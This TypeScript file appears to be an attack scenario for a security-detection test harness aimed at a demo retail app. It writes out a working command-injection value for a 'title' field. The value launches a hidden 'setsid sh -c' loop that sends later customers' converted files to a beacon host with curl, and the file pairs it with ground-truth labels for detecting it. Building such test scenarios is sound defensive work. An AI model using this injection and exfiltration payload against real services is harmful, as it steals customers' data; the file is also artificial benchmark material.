/** Persistence: a process that one request leaves behind sends away what later customers have converted. */
import { literally } from '../../../examples/hello-retail/attack/ground-truth.ts';
import { browser } from '../../../examples/hello-retail/attack/shop.ts';
import { named, Truth } from '../desk/truth.ts';
import type { Outcome, Scenario, World } from '../scenario.ts';

export const persistence: Scenario = {
  name: 'persistence',
  what: 'a process left behind in an instance sends away the texts of later customers',
  starts: 'domain',
  hosts: ['beacon'],
  run,
};

/** An instance may have been replaced between two requests, or the process may not have come to its turn. */
const MOST_ROUNDS = 4;
const MOST_VICTIMS = 4;

async function run(world: World): Promise<Outcome> {
  for (let round = 1; round <= MOST_ROUNDS; round++) {
    const outcome = await attempt(world, round);
    if (outcome !== undefined) return outcome;
    world.log(`round ${round}: nothing arrived; once more`);
  }
  throw new Error(`nothing arrived in ${MOST_ROUNDS} rounds`);
}

async function attempt(world: World, round: number): Promise<Outcome | undefined> {
  const { random } = world;
  const beacon = world.host('beacon');
  const path = `/${random.word(8)}`;
  const agent = world.agent();
  // Looks for a text that was not there before, five times a second for as long as it is not frozen, and is done when it sent one.
  const loop =
    `l=$(ls -t /tmp/convert/*.txt|head -n 1);i=0;while [ $i -lt 400 ];do i=$((i+1));n=$(ls -t /tmp/convert/*.txt|head -n 1);` +
    `if [ "$n" != "$l" ];then curl -s --data-binary @$n ${beacon.url}${path};exit;fi;sleep 0.2;done`;
  const title = `${random.word(6)}";setsid sh -c '${loop}' </dev/null >/dev/null 2>&1 & : "`;
  const planted = await world.call('POST', '/convert', { body: { title, text: random.word(20) }, agent });
  const arrived = () => world.visits('beacon').find((visit) => visit.path === path)?.body;
  for (let victims = 0; victims < MOST_VICTIMS && arrived() === undefined; victims++) {
    await world.turn();
    const text = Array.from({ length: 20 }, () => random.word(6)).join(' ');
    await world.call('POST', '/convert', { body: { title: 'a letter', text }, agent: browser });
  }
  const sent = arrived();
  if (sent === undefined) return undefined;
  // An instance may have been frozen in the middle of that call: what it knows of it then leaves with its next request, or its end.
  // Customers who come at the same moment wake as many instances.
  const later = { body: { title: 'a letter', text: random.word(30) }, agent: browser };
  await Promise.all([1, 2, 3].map(() => world.call('POST', '/convert', later)));
  const victim = world.converted().find(({ text }) => text === sent);
  if (victim === undefined) throw new Error(`round ${round}: a text arrived that nobody had converted: ${sent.slice(0, 80)}`);
  const fn = named('convert');
  const truth = new Truth()
    .asks('the planting', 'convert', planted, agent)
    .converts(planted)
    .programs('convert', planted, 'sh -c printf')
    // It may have been frozen before it became what it is: nobody outside can tell during which request that was.
    .attack('the process that stayed', { kind: 'process', label: literally('sh -c l=$(ls'), function: fn })
    .attack('curl', { kind: 'process', label: '^curl -s --data-binary @/tmp/convert/', function: fn })
    .attack('the call', { kind: 'exchange', label: `^POST https://${beacon.host}${path}`, function: fn })
    .endpoint(beacon.host)
    .context('what it looks with', {
      kind: 'process',
      label: '^(ls|head|sleep|sh|setsid|process|/usr/bin/dash)',
      function: fn,
    });
  truth
    .file('convert', `/tmp/convert/${victim.id}.txt`)
    .serves('the customer whose text it was', 'convert', victim, 'context')
    .converts(victim)
    .context('the customer', { kind: 'client', label: literally(victim.agent) });
  return {
    fact: { what: 'domain', q: beacon.host },
    entries: [planted.requestId, victim.requestId],
    steps: truth.steps,
  };
}
